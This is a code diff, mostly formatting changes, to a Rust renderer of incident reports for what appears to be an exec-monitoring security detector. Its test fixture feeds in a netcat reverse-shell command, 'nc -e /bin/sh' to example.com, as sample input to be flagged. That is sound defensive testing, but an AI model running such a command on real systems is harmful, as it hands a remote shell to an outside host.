@@ -9,12 +9,36 @@ use std::fmt::Write as _;
 
 pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict) -> String {
     let mut o = String::with_capacity(2048);
-    let _ = writeln!(o, "Summary\n=======\n{}\nRisk {}/100, severity {}, category {}{}\n", v.summary, v.risk, v.severity.as_str(), v.category, if v.test_activity { " (test activity)" } else { "" });
+    let _ = writeln!(
+        o,
+        "Summary\n=======\n{}\nRisk {}/100, severity {}, category {}{}\n",
+        v.summary,
+        v.risk,
+        v.severity.as_str(),
+        v.category,
+        if v.test_activity {
+            " (test activity)"
+        } else {
+            ""
+        }
+    );
     let _ = writeln!(o, "Incident details\n================");
     let _ = writeln!(o, "- Command: {}", escape(&facts.argv.join(" "), 400));
     if let Some(e) = &facts.exe_path {
-        let flags = facts.exe_flags.map(|f| exe_flag_names(f.0).join("|")).unwrap_or_default();
-        let _ = writeln!(o, "- Executable: {}{}", escape(e, 200), if flags.is_empty() { String::new() } else { format!(" (exe_flags={flags})") });
+        let flags = facts
+            .exe_flags
+            .map(|f| exe_flag_names(f.0).join("|"))
+            .unwrap_or_default();
+        let _ = writeln!(
+            o,
+            "- Executable: {}{}",
+            escape(e, 200),
+            if flags.is_empty() {
+                String::new()
+            } else {
+                format!(" (exe_flags={flags})")
+            }
+        );
     }
     match facts.uid {
         Some(u) => {
@@ -26,14 +50,40 @@ pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict) -> String {
     }
     match &facts.container {
         Some(c) => {
-            let _ = writeln!(o, "- Where: container {} ({:?})", escape(&c.short_id, 16), c.runtime);
+            let _ = writeln!(
+                o,
+                "- Where: container {} ({:?})",
+                escape(&c.short_id, 16),
+                c.runtime
+            );
         }
         None => {
-            let _ = writeln!(o, "- Where: {}", if facts.cgroups_present { "host" } else { "unknown" });
+            let _ = writeln!(
+                o,
+                "- Where: {}",
+                if facts.cgroups_present {
+                    "host"
+                } else {
+                    "unknown"
+                }
+            );
         }
     }
-    let chain: Vec<String> = lineage.ancestors.iter().take(8).map(|a| escape(&a.comm, 32)).collect();
-    let _ = writeln!(o, "- Lineage: {}", if chain.is_empty() { "parent unknown".to_string() } else { chain.join(" < ") });
+    let chain: Vec<String> = lineage
+        .ancestors
+        .iter()
+        .take(8)
+        .map(|a| escape(&a.comm, 32))
+        .collect();
+    let _ = writeln!(
+        o,
+        "- Lineage: {}",
+        if chain.is_empty() {
+            "parent unknown".to_string()
+        } else {
+            chain.join(" < ")
+        }
+    );
     if let Some(r) = facts.res.filter(|r| *r != 0) {
         let _ = writeln!(o, "- Result: exec failed (res={r}), an attempt");
     }
@@ -42,9 +92,20 @@ pub fn render(facts: &ExecFacts, lineage: &Lineage, v: &Verdict) -> String {
         let _ = writeln!(o, "Nothing in this exec matches a known attack behaviour.");
     }
     for h in &v.hits {
-        let _ = writeln!(o, "- {} [{}]: {}\n  Evidence: {}", h.signal.title, h.signal.level, h.signal.description, escape(&h.evidence, 240));
+        let _ = writeln!(
+            o,
+            "- {} [{}]: {}\n  Evidence: {}",
+            h.signal.title,
+            h.signal.level,
+            h.signal.description,
+            escape(&h.evidence, 240)
+        );
     }
-    for line in v.evidence.iter().filter(|l| l.starts_with("note:") || l.starts_with("exe:")) {
+    for line in v
+        .evidence
+        .iter()
+        .filter(|l| l.starts_with("note:") || l.starts_with("exe:"))
+    {
         let _ = writeln!(o, "- {line}");
     }
     let _ = writeln!(o, "\nATT&CK (Enterprise v{ATTACK_VERSION})\n==========");
@@ -92,22 +153,43 @@ mod tests {
     #[test]
     fn seed_text_report_sections_and_reading() {
         let f = ExecFacts {
-            argv: ["nc", "-e", "/bin/sh", "example.com", "22"].iter().map(|s| s.to_string()).collect(),
+            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
+                .iter()
+                .map(|s| s.to_string())
+                .collect(),
             exe_path: Some("/usr/bin/nc.openbsd".into()),
             uid: Some(0),
             res: Some(0),
             exe_flags: Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER)),
-            container: Some(ContainerInfo { runtime: ContainerRuntime::Docker, short_id: "1d45a96b1daa".into() }),
+            container: Some(ContainerInfo {
+                runtime: ContainerRuntime::Docker,
+                short_id: "1d45a96b1daa".into(),
+            }),
             cgroups_present: true,
             ..Default::default()
         };
         let l = Lineage::from_comms(["event-generator"]);
         let t = super::render(&f, &l, &analyze(&f, &l));
-        for s in ["Summary", "Incident details", "Why it matters", "ATT&CK", "Mitigations", "References", "Docker:", "Kubernetes:"] {
+        for s in [
+            "Summary",
+            "Incident details",
+            "Why it matters",
+            "ATT&CK",
+            "Mitigations",
+            "References",
+            "Docker:",
+            "Kubernetes:",
+        ] {
             assert!(t.contains(s), "missing {s}\n{t}");
         }
-        assert!(t.contains("shipped in the image, not drift, not tampering"), "{t}");
-        assert!(t.contains("EXE_WRITABLE only because it runs as root"), "{t}");
+        assert!(
+            t.contains("shipped in the image, not drift, not tampering"),
+            "{t}"
+        );
+        assert!(
+            t.contains("EXE_WRITABLE only because it runs as root"),
+            "{t}"
+        );
         assert!(t.contains("most likely failed"), "{t}");
         assert!(t.contains("event-generator"), "{t}");
         assert!(!t.contains("--securityOpt") && !t.contains("--netcat-opt"));
